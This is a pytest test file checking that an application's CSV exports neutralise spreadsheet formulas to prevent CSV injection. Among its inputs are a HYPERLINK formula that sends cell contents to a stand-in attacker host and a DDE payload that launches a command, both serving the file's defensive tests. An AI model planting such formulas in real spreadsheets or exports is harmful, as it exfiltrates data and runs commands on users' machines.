"""CSV exports cannot carry a formula into a spreadsheet (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient

from app.csv_tables import csv_table, neutral_cell
from app.projections import projector
from events.store import EventStore

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-5", "-5"),  # a plain number is not a formula
        ("+1.5e3", "+1.5e3"),
        ("web", "web"),
        ("", ""),
        (42, 42),
        (None, None),
    ],
)
def test_cells_a_spreadsheet_would_run_are_made_text(cell: object, written: object) -> None:
    assert neutral_cell(cell) == written


def test_text_is_quoted_so_no_separator_inside_it_starts_a_cell() -> None:
    table = csv_table(("name", "count"), [("a;=1+1", 3), ("b,c", 4)])
    assert table == 'name,count\r\n"a;=1+1",3\r\n"b,c",4\r\n'


def test_the_audit_exports_neutralise_a_reported_formula(
    client: TestClient, store: EventStore
) -> None:
    report = {"environment": "production", "service": FORMULA, "status": "succeeded",
              "image_digest": "sha256:" + "ab" * 32, "strategy": "@rolling"}  # fmt: skip
    assert client.post("/api/deployments", json=report).status_code == 201
    projector(store).catch_up_all()
    for path, expected in (
        ("/api/audit/deployments?format=csv", "'" + FORMULA),
        ("/api/events?format=csv", None),  # the report is inside a JSON cell there
    ):
        response = client.get(path)
        assert response.status_code == 200, response.text
        rows = list(csv.reader(io.StringIO(response.text)))
        cells = [cell for row in rows[1:] for cell in row]
        assert len(rows) > 1 and not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
        assert expected is None or (expected in cells and "'@rolling" in cells)
